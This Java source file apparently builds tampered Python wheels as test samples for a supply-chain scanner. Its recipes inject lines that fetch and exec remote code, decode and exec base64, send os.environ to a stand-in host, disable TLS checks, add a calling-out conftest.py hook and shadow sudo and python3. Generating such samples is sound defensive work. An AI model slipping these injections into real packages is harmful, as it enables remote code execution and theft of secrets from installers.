package dev.firebreak.bench.tamper;

import dev.firebreak.bench.tamper.Pack.Entry;
import java.util.List;

/// Alterations of Python wheels.
final class WheelRecipes {
    static final List<Recipe> ALL =
            List.of(
                    new Recipe(
                            "wheel-path-file",
                            p -> added(p, "start.pth", "import os; os.getcwd()\n")),
                    new Recipe(
                            "wheel-site-customize", p -> added(p, "sitecustomize.py", "x = 1\n")),
                    new Recipe(
                            "wheel-fetch-and-run",
                            p ->
                                    first(
                                            p,
                                            "\nimport urllib.request\nexec(urllib.request.urlopen('https://stats.example.invalid/x').read())\n")),
                    new Recipe(
                            "wheel-decode-and-run",
                            p ->
                                    first(
                                            p,
                                            "\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk=' * 1))\n")),
                    new Recipe(
                            "wheel-names-joined",
                            p ->
                                    first(
                                            p,
                                            "\ngetattr(__import__('o'+'s'), ''.join(map(chr,[115,121,115,116,101,109])))('true')\n")),
                    new Recipe("wheel-command-shadows", p -> points(p, "python3")),
                    new Recipe(
                            "wheel-script-shadows",
                            p -> data(p, "scripts/sudo", "#!python\nprint(1)\n")),
                    new Recipe(
                            "wheel-file-outside",
                            p -> data(p, "data/etc/profile.d/x.sh", "true\n")),
                    new Recipe(
                            "wheel-requires-url",
                            p ->
                                    requires(
                                            p,
                                            "helper-x @ https://files.example.invalid/helper-x.whl")),
                    new Recipe("wheel-requires-new", p -> requires(p, "plain-crypto-x")),
                    new Recipe(
                            "wheel-bytecode-only",
                            p ->
                                    added(
                                            p,
                                            base(p) + "/__pycache__/__init__.cpython-311.pyc",
                                            bytecode())),
                    new Recipe(
                            "wheel-tls-off",
                            p ->
                                    first(
                                            p,
                                            "\nimport ssl\nssl._create_default_https_context = ssl._create_unverified_context\n")),
                    new Recipe(
                            "wheel-pickle",
                            p -> first(p, "\nimport pickle\npickle.loads(b'\\x80\\x04N.')\n")),
                    new Recipe(
                            "wheel-pickle-from-file",
                            p ->
                                    added(p, base(p) + "/data.bin", new byte[3000])
                                            && first(
                                                    p,
                                                    "\nimport pickle, os\npickle.load(open(os.path.dirname(__file__) + '/data.bin', 'rb'))\n")),
                    new Recipe(
                            "wheel-test-hook",
                            p ->
                                    added(
                                            p,
                                            "conftest.py",
                                            "import urllib.request\nurllib.request.urlopen('https://stats.example.invalid')\n")),
                    new Recipe("wheel-plugin", p -> group(p, "[pytest11]\nx = " + base(p) + "\n")),
                    new Recipe(
                            "wheel-environment-sent",
                            p ->
                                    first(
                                            p,
                                            "\nimport os, socket\nsocket.create_connection(('stats.example.invalid', 443)).send(repr(dict(os.environ)).encode())\n")));

    private WheelRecipes() {}

    private static boolean added(Pack p, String name, String text) {
        p.add(name, text);
        return true;
    }

    private static boolean added(Pack p, String name, byte[] bytes) {
        p.add(name, bytes);
        return true;
    }

    private static String base(Pack p) {
        Entry e = p.ending("/__init__.py");
        return e == null ? "x" : e.name.substring(0, e.name.indexOf('/'));
    }

    private static boolean first(Pack p, String text) {
        Entry e = p.find(base(p) + "/__init__.py");
        if (e != null) {
            e.text(e.text() + text);
        }
        return e != null;
    }

    private static String info(Pack p) {
        Entry e = p.ending(".dist-info/METADATA");
        return e == null ? "x.dist-info" : e.name.substring(0, e.name.lastIndexOf('/'));
    }

    private static boolean points(Pack p, String command) {
        return group(p, "[console_scripts]\n" + command + " = " + base(p) + ":main\n");
    }

    private static boolean group(Pack p, String text) {
        Entry e = p.find(info(p) + "/entry_points.txt");
        if (e == null) {
            e = p.add(info(p) + "/entry_points.txt", "");
        }
        e.text(
                e.text().contains("[console_scripts]\n") && text.startsWith("[console_scripts]\n")
                        ? e.text().replace("[console_scripts]\n", text)
                        : e.text() + "\n" + text);
        return true;
    }

    private static boolean data(Pack p, String name, String text) {
        return added(p, info(p).replace(".dist-info", ".data/") + name, text);
    }

    private static boolean requires(Pack p, String what) {
        Entry e = p.find(info(p) + "/METADATA");
        if (e != null) {
            e.text(e.text().replaceFirst("\nVersion:", "\nRequires-Dist: " + what + "\nVersion:"));
        }
        return e != null;
    }

    private static byte[] bytecode() {
        byte[] out = new byte[200];
        out[0] = (byte) 0xa7;
        out[1] = 0x0d;
        out[2] = 0x0d;
        out[3] = 0x0a;
        byte[] words =
                "urllib.request\0urlopen\0exec\0"
                        .getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        System.arraycopy(words, 0, out, 60, words.length);
        return out;
    }
}
